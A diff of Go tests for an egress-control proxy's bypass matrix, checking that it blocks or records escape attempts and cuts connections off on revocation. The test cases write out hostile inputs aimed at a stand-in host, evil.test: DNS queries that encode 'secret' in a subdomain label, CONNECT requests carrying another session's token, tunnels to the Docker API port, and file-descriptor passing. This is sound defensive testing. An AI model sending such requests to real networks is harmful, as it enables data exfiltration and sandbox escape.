@@ -32,7 +32,7 @@ func sessionRows(*testing.T) map[string]row {
 		"EG-68_no_token": both(connect(good), allowed(200, "egress[0]")),
 		"EG-68_foreign_token": both(func(in *inside) reply {
 			return in.raw("CONNECT", "CONNECT evil.test:22 HTTP/1.1\r\nHost: evil.test:22\r\nProxy-Authorization: Bearer session-of-another\r\n\r\n")
-		}, denied(403, "")),
+		}, denied(403, "host_not_listed")),
 		"EG-97_docker_port":      both(rawConnect("127.0.0.1:2375"), denied(403, enforcers.CodeIPLiteral)),
 		"EG-97_admin_plain":      both(plainHost("127.0.0.1:9090"), denied(403, enforcers.CodeIPLiteral)),
 		"EG-104_bound_host":      both(boundRequest("PUT /repos/org/repo/actions/secrets"), denied(403, enforcers.CodeNeedsAuthority)),
@@ -45,18 +45,21 @@ func sessionRows(*testing.T) map[string]row {
 		"EG-107_no_query": {
 			do:     func(in *inside) reply { _, _, re := in.tunnel("secret-label.evil.test:443"); return re },
 			hard:   denied(403, "host_not_listed"),
-			shadow: stopped(200, "").asked(0),
+			shadow: blocked(200, "host_not_listed").dialed(0).asked(0).ended(enforcers.CodeClientGone),
+		},
+		"EG-101_empty_policy": {
+			do: connect(good), hard: denied(403, "host_not_listed"), shadow: blocked(200, "host_not_listed"),
+			setup: func(_ *testing.T, _ *outside, s *setup) {
+				s.policy = `{"bundle":"matrix","digest":"00","egress":[],"models":[],"operations":[],"telemetry":[]}`
+			},
 		},
 	}
 	r := rows["EG-104_bound_host"]
 	r.hard.code = "method_not_listed"
 	rows["EG-104_bound_host"] = r
 	r = rows["EG-68_foreign_token"]
-	r.hard.code, r.shadow.code = "host_not_listed", enforcers.CodePort
+	r.shadow.code = enforcers.CodePort
 	rows["EG-68_foreign_token"] = r
-	r = rows["EG-107_no_query"]
-	r.shadow.effect, r.shadow.code, r.shadow.outcome = enforcers.Deny, "host_not_listed", enforcers.CodeClientGone
-	rows["EG-107_no_query"] = r
 	for name, address := range map[string]string{"v4": "127.0.0.1:2375", "name": "localhost:2375"} {
 		code := enforcers.CodeIPLiteral
 		if name == "name" {
@@ -154,17 +157,19 @@ func TestBypassMatrixDNS(t *testing.T) {
 			in := open(t, o, setup{mode: mode})
 			before := o.tally()
 			r := in.resolver()
+			w := denied(dns.RcodeNameError, "name_not_listed")
+			if mode == receipts.Shadow {
+				w = blocked(dns.RcodeSuccess, "name_not_listed").dialed(0).asked(0).ended(enforcers.CodeAnswered)
+			}
 			for _, qtype := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeNULL, dns.TypeMX, dns.TypeHTTPS, dns.TypeANY, 65280} {
+				from := in.mark()
 				m := r.ask(t, "c2VjcmV0.evil.test", qtype)
+				in.expect(t, from, reply{status: m.Rcode}, w)
 				addresses := mode == receipts.Shadow && (qtype == dns.TypeA || qtype == dns.TypeAAAA)
 				if len(m.Answer) != 0 != addresses {
 					t.Errorf("type %d: %v", qtype, m)
 				}
-				if mode == receipts.Hard && m.Rcode != dns.RcodeNameError {
-					t.Errorf("type %d: rcode %d", qtype, m.Rcode)
-				}
-				d, _ := in.rec.last()
-				if d.Action.Kind != enforcers.DNSQuery || d.Decision.Effect != enforcers.Deny || d.Decision.Reason != "name_not_listed" {
+				if d, _ := in.rec.last(); d.Action.Kind != enforcers.DNSQuery {
 					t.Errorf("type %d: receipt %+v", qtype, d)
 				}
 			}
@@ -182,19 +187,25 @@ func TestBypassMatrixDNS(t *testing.T) {
 				t.Error("two names share an address")
 			}
 			for _, qtype := range []uint16{dns.TypeTXT, dns.TypeHTTPS, dns.TypeSVCB} { // EG-61: no hint at another endpoint
-				if m := r.ask(t, good, qtype); len(m.Answer) != 0 || m.Rcode != dns.RcodeSuccess {
+				from := in.mark()
+				m := r.ask(t, good, qtype)
+				in.expect(t, from, reply{status: m.Rcode}, allowed(dns.RcodeSuccess, "egress[0]").dialed(0).asked(0).ended(enforcers.CodeAnswered))
+				if len(m.Answer) != 0 {
 					t.Errorf("type %d: %v", qtype, m)
 				}
 			}
 			nothingAsked(t, before)
 			// The transparent path: both addresses lead to the name.
 			for _, target := range []string{netip.AddrPortFrom(four, 443).String(), netip.AddrPortFrom(six, 443).String()} {
-				if re := in.https(target, good, get(good, "/v1/x")); re.status != 200 {
-					t.Errorf("%s: %d %v", target, re.status, re.err)
+				from, w := in.mark(), allowed(200, "egress[0]")
+				if target != netip.AddrPortFrom(four, 443).String() {
+					w = w.kept() // by the connection of the first
 				}
-				if re := in.https(target, "evil.test", get(good, "/v1/x")); re.err == nil {
-					t.Errorf("EG-39: %s took another server name", target)
-				}
+				in.expect(t, from, in.https(target, good, get(good, "/v1/x")), w)
+				from = in.mark()
+				re := in.https(target, "evil.test", get(good, "/v1/x")) // EG-39
+				in.hangUp()
+				in.expect(t, from, re, denied(0, enforcers.CodeMisdirected))
 			}
 		})
 	}
@@ -250,9 +261,8 @@ func TestBypassMatrixDNS(t *testing.T) {
 			t.Errorf("the 65th name in a minute: %v", m)
 		}
 		addressOf(t, r.ask(t, "n0.evil.test", dns.TypeA)) // a known name is no new one
-		if re := rawConnect("n65.evil.test:443")(in); re.status != 403 || !strings.Contains(re.body, "name_rate") {
-			t.Errorf("CONNECT to a 65th name: %d %s", re.status, re.body)
-		}
+		from := in.mark()
+		in.expect(t, from, rawConnect("n65.evil.test:443")(in), denied(403, "name_rate"))
 		now = now.Add(time.Minute)
 		addressOf(t, r.ask(t, "n64.evil.test", dns.TypeA))
 	})
@@ -283,27 +293,20 @@ func TestBypassMatrixNameBudget(t *testing.T) {
 	for _, mode := range []receipts.Mode{receipts.Hard, receipts.Shadow} {
 		t.Run("EG-109_labels_under_wildcard/"+string(mode), func(t *testing.T) {
 			in := open(t, o, setup{mode: mode})
-			statuses := map[int]int{}
-			queries := 0
 			for i := range 40 {
-				before := o.tally()
-				re := in.fetch(fmt.Sprintf("n%d.deep.test", i), "/")
-				statuses[re.status]++
-				if re.status == 403 {
-					if !strings.Contains(re.body, enforcers.CodeNameBudget) {
-						t.Errorf("refused for %s", re.body)
+				w := allowed(200, "egress[2]")
+				if i >= enforcers.DefaultNames {
+					w = denied(403, enforcers.CodeNameBudget).at("egress[2]")
+					if mode == receipts.Shadow {
+						w = blocked(200, enforcers.CodeNameBudget).at("egress[2]")
 					}
-					queries += o.tally().queries - before.queries
 				}
+				from := in.mark()
+				re := in.fetch(fmt.Sprintf("n%d.deep.test", i), "/")
+				in.hangUp()
+				in.expect(t, from, re, w)
 			}
-			if mode == receipts.Hard && (statuses[200] != 32 || statuses[403] != 8 || queries != 0) {
-				t.Errorf("statuses %v, %d queries for refused names", statuses, queries)
-			}
-			if mode == receipts.Shadow {
-				if d, _ := in.rec.last(); d.Decision.Reason != enforcers.CodeNameBudget || !d.Decision.Passed {
-					t.Errorf("shadow's receipt: %+v", d.Decision)
-				}
-			}
+			in.covered(t)
 		})
 	}
 }
@@ -312,6 +315,34 @@ func TestBypassMatrixNameBudget(t *testing.T) {
 // what is open.
 func TestBypassMatrixRevocation(t *testing.T) {
 	o := newOutside(t)
+	// What is opened, what its receipt says while it is open, and how it ends. A
+	// tunnel that nothing was asked in has reached nothing.
+	kinds := map[string]struct {
+		open func(t *testing.T, in *inside) io.Reader
+		want want
+	}{
+		"idle_tunnel": {func(_ *testing.T, in *inside) io.Reader { c, _, _ := in.tunnel(good + ":443"); return c }, stopped(0, "").asked(0)},
+		"idle_tls":    {func(_ *testing.T, in *inside) io.Reader { c, _, _ := in.secure(good+":443", good); return c }, stopped(0, "").asked(0)},
+		"blind": {func(t *testing.T, in *inside) io.Reader {
+			c, r, re := in.tunnel("blind.good.test:5432")
+			_, _ = io.WriteString(c, "x")
+			if b, err := r.ReadByte(); re.status != 200 || b != 'x' || err != nil {
+				t.Fatal("the blind tunnel does not work")
+			}
+			return r
+		}, allowed(0, "egress[7]")},
+		"stream":   {streaming(good, "/v1/x"), allowed(0, "egress[0]")},
+		"injected": {streaming(bound, "/v1/x"), allowed(0, "egress[4]")}, // the swap was made under the old policy
+		"websocket": {func(t *testing.T, in *inside) io.Reader {
+			in.out.handle(t, echoWebSocket)
+			c, r, _ := in.secure("ws.good.test:443", "ws.good.test")
+			_, _ = io.WriteString(c, "GET /x HTTP/1.1\r\nHost: ws.good.test\r\n"+strings.Join(append(upgrade, "\r\n"), "\r\n"))
+			if resp, err := http.ReadResponse(r, nil); err != nil || resp.StatusCode != 101 {
+				t.Fatalf("%v %v", resp, err)
+			}
+			return r
+		}, allowed(0, "egress[12]")},
+	}
 	for name, c := range map[string]struct {
 		code string
 		end  func(*inside)
@@ -319,67 +350,77 @@ func TestBypassMatrixRevocation(t *testing.T) {
 		"EG-70_session_ends":    {enforcers.CodeRevoked, func(in *inside) { in.door.Close(enforcers.CodeRevoked) }},
 		"EG-100_policy_changes": {enforcers.CodeGeneration, func(in *inside) { in.gate.Swap(policyOf(in.t, matrixPolicy)) }},
 	} {
-		for kind, open1 := range map[string]func(t *testing.T, in *inside) io.Reader{
-			"idle_tunnel": func(_ *testing.T, in *inside) io.Reader { c, _, _ := in.tunnel(good + ":443"); return c },
-			"idle_tls":    func(_ *testing.T, in *inside) io.Reader { c, _, _ := in.secure(good+":443", good); return c },
-			"blind": func(t *testing.T, in *inside) io.Reader {
-				c, r, re := in.tunnel("blind.good.test:5432")
-				_, _ = io.WriteString(c, "x")
-				if b, err := r.ReadByte(); re.status != 200 || b != 'x' || err != nil {
-					t.Fatal("the blind tunnel does not work")
-				}
-				return r
-			},
-			"stream": func(t *testing.T, in *inside) io.Reader {
-				c, r, _ := in.secure(good+":443", good)
-				_, _ = io.WriteString(c, get(good, "/v1/x"))
-				if line, err := r.ReadString('\n'); err != nil || !strings.Contains(line, "200") {
-					t.Fatalf("%q %v", line, err)
-				}
-				return r
-			},
-		} {
-			t.Run(name+"/"+kind, func(t *testing.T) {
-				o.handle(t, func(w http.ResponseWriter, r *http.Request) {
-					w.Header().Set("Content-Type", "text/event-stream")
-					for r.Context().Err() == nil {
-						_, _ = io.WriteString(w, "data: x\n\n")
-						w.(http.Flusher).Flush()
-						time.Sleep(time.Millisecond)
+		for kind, k := range kinds {
+			for _, mode := range modes {
+				t.Run(name+"/"+kind+"/"+string(mode), func(t *testing.T) {
+					o.handle(t, func(w http.ResponseWriter, r *http.Request) {
+						w.Header().Set("Content-Type", "text/event-stream")
+						for r.Context().Err() == nil {
+							_, _ = io.WriteString(w, "data: x\n\n")
+							w.(http.Flusher).Flush()
+							time.Sleep(time.Millisecond)
+						}
+					})
+					in := open(t, o, setup{mode: mode, inject: connections(t)})
+					from := in.mark()
+					r := k.open(t, in)
+					began := time.Now()
+					c.end(in)
+					if _, err := io.Copy(io.Discard, r); errors.Is(err, context.DeadlineExceeded) {
+						t.Fatal("still open")
+					}
+					if took := time.Since(began); took > patience {
+						t.Errorf("took %s", took)
+					}
+					in.hangUp()
+					w := k.want
+					if w.outcome = c.code; w.dials == 0 {
+						d, _ := in.rec.last()
+						w.outcome = in.rec.outcome(t, d.Receipt).Code // nobody was asked anything: any word for its end will do
+					}
+					if kind == "injected" {
+						w.secrets = 1
+					}
+					in.expect(t, from, reply{}, w)
+					if d, out := in.rec.last(); w.dials > 0 && (out.Effect != enforcers.Forwarded || d.Action.Generation != 1) {
+						t.Errorf("generation %d, outcome %+v", d.Action.Generation, out)
+					}
+					if name == "EG-70_session_ends" {
+						in.end()
+					}
+					from = in.mark()
+					re := in.fetchOrNothing(good)
+					if name == "EG-100_policy_changes" {
+						w := allowed(200, "egress[0]")
+						if kind == "stream" || kind == "injected" {
+							w.dials, w.reused = o.tally().accepts-from.accepts, true // a cut stream's connection is not used again
+						}
+						in.hangUp()
+						in.expect(t, from, re, w)
+						if d, _ := in.rec.last(); d.Action.Generation != 2 {
+							t.Errorf("judged under generation %d", d.Action.Generation)
+						}
+						in.covered(t)
+						return
+					}
+					if after := in.mark(); re.status != 0 || after != from {
+						t.Errorf("after the end the door answered %d, and something was receipted or reached the outside: %+v", re.status, after)
 					}
 				})
-				in := open(t, o, setup{})
-				r := open1(t, in)
-				began := time.Now()
-				c.end(in)
-				if _, err := io.Copy(io.Discard, r); errors.Is(err, context.DeadlineExceeded) {
-					t.Fatal("still open")
-				}
-				if took := time.Since(began); took > patience {
-					t.Errorf("took %s", took)
-				}
-				in.hangUp()
-				if kind == "blind" || kind == "stream" {
-					if _, out := in.rec.last(); out.Code != c.code || out.Effect != enforcers.Forwarded {
-						t.Errorf("outcome %+v, want code %s", out, c.code)
-					}
-				}
-				if name == "EG-70_session_ends" {
-					in.end()
-				}
-				before := o.tally()
-				re := in.fetchOrNothing(good)
-				if name == "EG-70_session_ends" && re.status != 0 {
-					t.Errorf("after the end the door answered %d", re.status)
-				}
-				if name == "EG-100_policy_changes" && re.status != 200 {
-					t.Errorf("under the new policy: %d %v", re.status, re.err)
-				}
-				if after := o.tally(); name == "EG-70_session_ends" && after != before {
-					t.Error("something reached the outside after the end")
-				}
-			})
+			}
 		}
+	}
+}
+
+// streaming opens an answer that does not end.
+func streaming(host, path string) func(t *testing.T, in *inside) io.Reader {
+	return func(t *testing.T, in *inside) io.Reader {
+		c, r, _ := in.secure(host+":443", host)
+		_, _ = io.WriteString(c, get(host, path))
+		if line, err := r.ReadString('\n'); err != nil || !strings.Contains(line, "200") {
+			t.Fatalf("%q %v", line, err)
+		}
+		return r
 	}
 }
 
@@ -402,8 +443,8 @@ func TestBypassMatrixReceiptLogDown(t *testing.T) {
 	for _, mode := range []receipts.Mode{receipts.Hard, receipts.Shadow} {
 		t.Run("EG-99_log_down/"+string(mode), func(t *testing.T) {
 			in := open(t, o, setup{mode: mode})
-			before := o.tally()
 			c, r, _ := in.secure(good+":443", good)
+			from := in.mark()
 			in.rec.mu.Lock()
 			in.rec.down = true
 			in.rec.mu.Unlock()
@@ -417,8 +458,8 @@ func TestBypassMatrixReceiptLogDown(t *testing.T) {
 			if re := rawConnect("evil.test:443")(in); re.status != 503 {
 				t.Errorf("CONNECT to evil: %d", re.status)
 			}
-			if after := o.tally(); after != before {
-				t.Errorf("something reached the outside: %+v", after)
+			if after := in.mark(); after != from {
+				t.Errorf("something was receipted or reached the outside: %+v", after)
 			}
 		})
 	}
@@ -427,32 +468,61 @@ func TestBypassMatrixReceiptLogDown(t *testing.T) {
 // TestBypassMatrixTwoSessions shows that a session is what it came in by.
 func TestBypassMatrixTwoSessions(t *testing.T) {
 	o := newOutside(t)
-	a, b := open(t, o, setup{}), open(t, o, setup{})
-	t.Run("EG-69_identity_is_the_listener", func(t *testing.T) {
-		if re := a.fetch(good, "/v1/x"); re.status != 200 {
-			t.Fatal(re)
+	two := func(name string, run func(t *testing.T, a, b *inside)) {
+		each(t, name, o, func(t *testing.T, a *inside) {
+			b := open(t, o, setup{mode: a.gate.Mode(), session: "s-2"})
+			run(t, a, b)
+			b.hangUp()
+			b.covered(t)
+		})
+	}
+	two("EG-69_identity_is_the_listener", func(t *testing.T, a, b *inside) {
+		from := a.mark()
+		re := a.raw("CONNECT", "CONNECT evil.test:22 HTTP/1.1\r\nHost: evil.test:22\r\nProxy-Authorization: Bearer s-2\r\n\r\n")
+		w := denied(403, "host_not_listed")
+		if a.gate.Mode() == receipts.Shadow {
+			w.code = enforcers.CodePort
 		}
+		a.expect(t, from, re, w)
+		from = a.mark()
+		re = a.fetch(good, "/v1/x")
+		a.hangUp()
+		a.expect(t, from, re, allowed(200, "egress[0]"))
 		if len(b.rec.all()) != 0 {
 			t.Error("one session's action stands in another's receipts")
 		}
+		for _, d := range a.rec.all() {
+			if d.Action.Session != "s-1" {
+				t.Errorf("a receipt names session %s", d.Action.Session)
+			}
+		}
 	})
-	t.Run("EG-69_names_are_not_shared", func(t *testing.T) {
+	two("EG-69_names_are_not_shared", func(t *testing.T, a, b *inside) {
 		addr := addressOf(t, a.resolver().ask(t, "git.good.test", dns.TypeA))
-		if re := rawConnect(addr.String() + ":443")(b); re.status != 403 {
-			t.Errorf("another session's address: %d", re.status)
-		}
+		from := b.mark()
+		b.expect(t, from, rawConnect(addr.String()+":443")(b), denied(403, enforcers.CodeIPLiteral))
 	})
-	t.Run("EG-98_another_door", func(t *testing.T) {
+	two("EG-98_another_door", func(t *testing.T, a, b *inside) {
 		// A door listens on a unix socket only; there is no address to name.
-		if re := rawConnect(filepath.Base(b.path) + ":1")(a); re.status != 403 {
-			t.Errorf("%d", re.status)
+		from := a.mark()
+		w := denied(403, "host_not_listed")
+		if a.gate.Mode() == receipts.Shadow {
+			w.code = enforcers.CodePort
+		}
+		a.expect(t, from, rawConnect(filepath.Base(b.path)+":1")(a), w)
+		if len(b.rec.all()) != 0 {
+			t.Error("it reached the other door")
 		}
 	})
-	t.Run("EG-69_trust_is_not_shared", func(t *testing.T) {
-		b.roots, a.roots = a.roots, b.roots
-		if re := a.fetch(good, "/v1/x"); re.err == nil {
+	two("EG-69_trust_is_not_shared", func(t *testing.T, a, b *inside) {
+		a.roots = b.roots
+		from := a.mark()
+		re := a.fetch(good, "/v1/x")
+		if re.err == nil {
 			t.Error("one session's CA is trusted in another")
 		}
+		a.hangUp()
+		a.expect(t, from, re, stopped(0, enforcers.CodeClientTLS).asked(0))
 	})
 }
 
@@ -460,21 +530,23 @@ func TestBypassMatrixTwoSessions(t *testing.T) {
 // dropped and change nothing.
 func TestBypassMatrixDescriptorPassing(t *testing.T) {
 	o := newOutside(t)
-	in := open(t, o, setup{})
-	t.Run("EG-110_scm_rights", func(t *testing.T) {
+	each(t, "EG-110_scm_rights", o, func(t *testing.T, in *inside) {
 		c := in.dial().(*net.UnixConn)
 		reader, writer, err := pipe()
 		if err != nil {
 			t.Fatal(err)
 		}
-		text := "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"
+		from := in.mark()
+		text := "CONNECT evil.test:22 HTTP/1.1\r\nHost: evil.test:22\r\n\r\n"
 		if _, _, err := c.WriteMsgUnix([]byte(text), unix.UnixRights(writer), nil); err != nil {
 			t.Fatal(err)
 		}
 		_ = unix.Close(writer)
-		if re := read(bufio.NewReader(c), "CONNECT"); re.status != 403 {
-			t.Errorf("client saw %d", re.status)
+		w := denied(403, "host_not_listed")
+		if in.gate.Mode() == receipts.Shadow {
+			w.code = enforcers.CodePort
 		}
+		in.expect(t, from, read(bufio.NewReader(c), "CONNECT"), w)
 		// The door's copy of the pipe's end is closed: the reader sees its end.
 		buf := make([]byte, 1)
 		if n, err := unix.Read(reader, buf); n != 0 || err != nil {
